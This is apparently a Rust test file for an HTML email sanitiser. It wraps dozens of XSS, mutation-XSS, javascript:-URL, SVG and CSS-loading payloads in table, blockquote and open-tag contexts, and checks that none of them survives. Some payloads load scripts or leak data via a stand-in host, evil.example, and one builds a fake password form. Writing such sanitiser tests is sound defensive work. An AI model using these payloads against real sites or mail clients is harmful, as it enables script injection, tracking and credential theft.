//! Attacks, class by class: nothing of them may be left that runs, submits, navigates, overlays or loads.

use super::verdict::{assert_loads_nothing, assert_loads_pictures_only};
use super::{assert_stable, shown, shown_with_pictures};

fn assert_survived(payloads: &[&str]) {
    for payload in payloads {
        // Alone, inside a table, quoted in a reply, and after a tag left open.
        for mail in [
            (*payload).to_owned(),
            format!("<table><tr><td>{payload}</table>"),
            format!("<blockquote type=cite><p>{payload}</blockquote><p>end"),
            format!("<b><p title='{payload}'>{payload}<p>end"),
        ] {
            assert_loads_nothing(&shown(&mail).html);
            assert_loads_pictures_only(&shown_with_pictures(&mail).html);
            assert_stable(&mail);
        }
    }
}

#[test]
fn t1_scripts_and_handlers_are_gone() {
    assert_survived(&[
        "<script>alert(1)</script>",
        "<script src=//evil.example/x.js></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script\t>",
        "<script><!--<script></script>--></script><img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<img/src=`x`onerror=alert(1)//",
        "<img src='x'onerror='alert(1)'>",
        "<body onload=alert(1)>",
        "<body style='color:red' onpageshow=alert(1)><body onload=alert(2)>",
        "<p onmouseover='alert(1)' ONCLICK=alert(2) oN\u{0}focus=alert(3)>x</p>",
        "<a href=# onclick=alert(1)>x</a>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<div onanimationstart=alert(1) style='animation:x 1s'>x</div>",
        "<video onloadstart=alert(1) src=x></video><audio onerror=alert(1) src=x></audio>",
        "<input onfocus=alert(1) autofocus><select onfocus=alert(1) autofocus><textarea autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee><isindex onfocus=alert(1)><keygen autofocus onfocus=alert(1)>",
        "<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>y</button>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<svg onload=alert(1)></svg><svg><script>alert(1)</script></svg>",
        "<custom-element onclick=alert(1)>x</custom-element><o:p onclick=alert(1)>y</o:p>",
        "<body title=\"bgcolor=foo\" name=\"bar style=animation-name:progress-bar-stripes onanimationstart=alert(origin) foo=bar\">x",
    ]);
}

#[test]
fn t2_links_run_nothing() {
    assert_survived(&[
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
        "<a href='j&#x61vascript:alert(1)'>x</a>",
        "<a href='java&#10;script:alert(1)'>x</a><a href='java&Tab;script:alert(1)'>x</a>",
        "<a href='&#1;javascript:alert(1)'>x</a><a href=' javascript:alert(1)'>x</a>",
        "<a href='\u{2028}javascript:alert(1)'>x</a><a href='\u{a0}javascript:alert(1)'>x</a>",
        "<a href='java\u{0}script:alert(1)'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a><a href='livescript:x'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='data:application/xhtml+xml;base64,PHg6c2NyaXB0'>x</a>",
        "<a href='blob:https://example.org/x'>x</a><a href='filesystem:https://example.org/temporary/x'>x</a>",
        "<a href='file:///etc/passwd'>x</a><a href='/api/v1/session'>x</a><a href='../../x'>x</a>",
        "<map name=m><area shape=rect coords='0,0,9,9' href=javascript:alert(1)></map>",
        "<base href='javascript:alert(1)//'><a href='x'>x</a>",
        "<form action=javascript:alert(1)><button formaction=javascript:alert(2)>x</button></form>",
        "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
        "<math href='javascript:alert(1)'>x</math>",
        "<img src='javascript:alert(1)'><img lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)'>",
        "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</table>",
        "<a href='https://example.org' ping='https://evil.example' download target=_self>x</a>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    ]);
}

#[test]
fn t3_svg_is_no_way_in() {
    assert_survived(&[
        "<svg><use href=\"data:image/s\tvg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x\"></use></svg>",
        "<svg><animate attributeName='href ' values='javascript:alert(1)' /></svg>",
        "<svg><a><animate attributeName=xlink:href from=javascript:alert(1) to=x by=y keytimes=0;1 /></a></svg>",
        "<svg><set attributeName=onmouseover to=alert(1)></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe><body onload=alert(1)></foreignObject></svg>",
        "<svg><filter><feImage href='https://evil.example/x'/></filter><rect filter='url(https://evil.example/#f)'/></svg>",
        "<svg><image href='https://evil.example/x.png' xlink:href='https://evil.example/y.png'/></svg>",
        "<svg><rect fill='url(https://evil.example/x#a)' mask='url(//evil.example/m)' cursor='url(//evil.example/c)' /></svg>",
        "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
        "<svg><title><img src=x onerror=alert(1)></title></svg>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'><img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<svg><svg><p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    ]);
}

#[test]
fn t4_a_second_parse_finds_nothing_new() {
    assert_survived(&[
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
        "<style><a title='</style><img src=x onerror=alert(1)>'></style>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
        "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
        "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
        "<template><p title='</template><img src=x onerror=alert(1)>'></template>",
        "<select><template><option><style></select><img src=x onerror=alert(1)></style>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<math><annotation-xml encoding='text/html'><style><img title='</style><img src=x onerror=alert(1)>'>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<svg><desc><p></svg><style><img title='</style><img src onerror=alert(1)>'>",
        "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)> ?><!ENTITY x '<script>'>",
        "<!--[if gte mso 9]><xml><script>alert(1)</script></xml><![endif]--><![if !mso]><p>x<![endif]>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<table><td><a href=1><table><td><a href=2></a></table></a>",
        "<p><table><p></table></p><a><table><a>x</table></a>",
        "<b><a><b><a><i><table><i><a><b></table></b></i></a>",
        "<div><span><div></span></div><p></span></p></div></div></div>",
        "<form id=x><input name=attributes><img name=body><a id=documentElement name=cookie>x</a><map name=forms>y</map></form>",
        "<pre>\n\n\nx</pre><pre>\n</pre><p>\u{0}\u{fffe}\u{feff}</p>",
        "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x&amp;gt;",
        "<a title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</a><p title='`\"><img src=x onerror=alert(1)>'>",
        "<ruby><rt><table><rt><p></ruby><li><dd><li></dd>x",
        "<nobr><nobr><p><nobr></nobr></p></nobr>",
        "</p></br></div></body></html><script>alert(1)</script></p>",
        "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
    ]);
}

#[test]
fn t5_css_neither_loads_nor_overlays() {
    assert_survived(&[
        "<div style='background:u\\r\\l(https://evil.example/1)'>x</div>",
        "<div style='background:\\75rl(https://evil.example/1)'>x</div>",
        "<div style='background:\\000075\\000072\\00006c(https://evil.example/1)'>x</div>",
        "<div style='background:url(https://evil.example/1'>x</div>",
        "<div style='background:url(\"https://evil.example/1'>x</div>",
        "<div style=\"background:url('https://evil.example/1\n')\">x</div>",
        "<div style='content:\"&quot;; background:url(//evil.example)'>x</div>",
        "<div style='content:\"\\0026quot;; background:url(//evil.example/1)\"'>x</div>",
        "<div style='background:url/**/(https://evil.example/1)'>x</div>",
        "<div style='--x:url(https://evil.example/1);background:var(--x)'>x</div>",
        "<div style='width:expression(alert(1));behavior:url(#default#time2);-moz-binding:url(//evil.example/x#y)'>x</div>",
        "<div style='width:e\\xpression(alert(1));w\\69 dth:1px'>x</div>",
        "<div style='position:fixed !important;top:0;left:0;width:100%;height:100vh;z-index:99999'>x</div>",
        "<div style='po\\sition:sticky;inset:0;transform:scale(99)'>x</div>",
        "<div style='filter:progid:DXImageTransform.Microsoft.gradient(src=\"//evil.example\")'>x</div>",
        "<div style='font-family:\"</style><script>alert(1)</script>\"'>x</div>",
        "<style>@import 'https://evil.example/x.css';@\\69mport url(//evil.example);p{color:red}</style><p>x",
        "<style>@font-face{font-family:x;src:url(https://evil.example/f)}p{font-family:x}</style><p>x",
        "<style>a[href^='https://x']{background:url(https://evil.example/leak)}</style>",
        "<style>p::before{content:url(https://evil.example/1)}p:after{content:'x'}</style>",
        "<style>p{background:image-set('https://evil.example/1' 1x)}</style>",
        "<style>.x{font-family:'</style><img src=x onerror=alert(1)>'}</style>",
        "<style>.x\\3c \\2fstyle\\3e \\3c img\\20src\\3dx{color:red}</style>",
        "<style>p{color:red}}} @media screen{a{color:blue} /* </style><img src=x onerror=alert(1)> */ </style>",
        "<style><!-- p{color:red} --></style><style>{};}{x{y:url(}</style>",
        "<style>@media screen and (max-width:9px){@media print{@import '//evil.example';p{position:fixed;color:red}}}</style>",
        "<style>@supports(color:red){p{background:url(//evil.example/1)}}@layer x{p{color:red}}@container(width>1px){p{color:red}}</style>",
        "<style>p{color:red;&:hover{background:url(//evil.example/1)}}</style>",
        "<style>:root{--a:url(//evil.example)}*{background:var(--a)}</style>",
        "<style>html,body{position:fixed;background:url(//evil.example/b)}</style><p>x",
        "<p style='width:1e38px;height:99999999px;font-size:1e9em;line-height:infinity'>x</p>",
        "<p style='color:red;color:attr(title);width:env(x)'>x</p>",
        "<font face=\"x;background:url(//evil.example/1)\" color=\"red'onclick=alert(1)\">x</font>",
    ]);
}

#[test]
fn t7_what_is_rewritten_opens_nothing() {
    let hostile_id = "x\"onerror=alert(1) y=\"";
    let options = super::Options {
        cid: [(hostile_id.to_owned(), "/api/v1/blobs/B1?a=1&b=\"'><svg onload=alert(1)>".to_owned())].into(),
        ..Default::default()
    };
    let mail = "<img src='cid:x\"onerror=alert(1) y=\"'><p style='background:url(\"cid:x%22onerror=alert(1)%20y=%22\")'>x</p>\
        <style>.a{background:url(cid:x%22onerror=alert\\28 1\\29%20y=%22)}</style>\
        <p class='a\"onclick=alert(1)' id='\"><script>'>x</p>";
    let document = super::sanitise(mail, &options).html;
    assert!(document.contains("/api/v1/blobs/B1?"));
    for (name, attributes) in super::verdict::elements(&document) {
        assert!(!matches!(&*name.local, "svg" | "script"), "{document}");
        assert!(attributes.iter().all(|attribute| !attribute.name.local.starts_with("on")), "{document}");
    }
}

#[test]
fn t16_forms_are_taken_apart_and_links_open_elsewhere() {
    let document = shown(
        "<form action=https://evil.example><label>Password <input type=password name=p></label><button>Sign in</button></form>\
         <a href=https://evil.example target=_self rel=opener>https://bank.example</a>",
    );
    assert_loads_nothing(&document.html);
    assert!(document.html.contains("Password"));
    assert!(document.html.contains("target=\"_blank\""));
    assert!(document.html.contains("rel=\"noopener noreferrer nofollow\""));
    assert!(!document.html.contains("_self"));
}
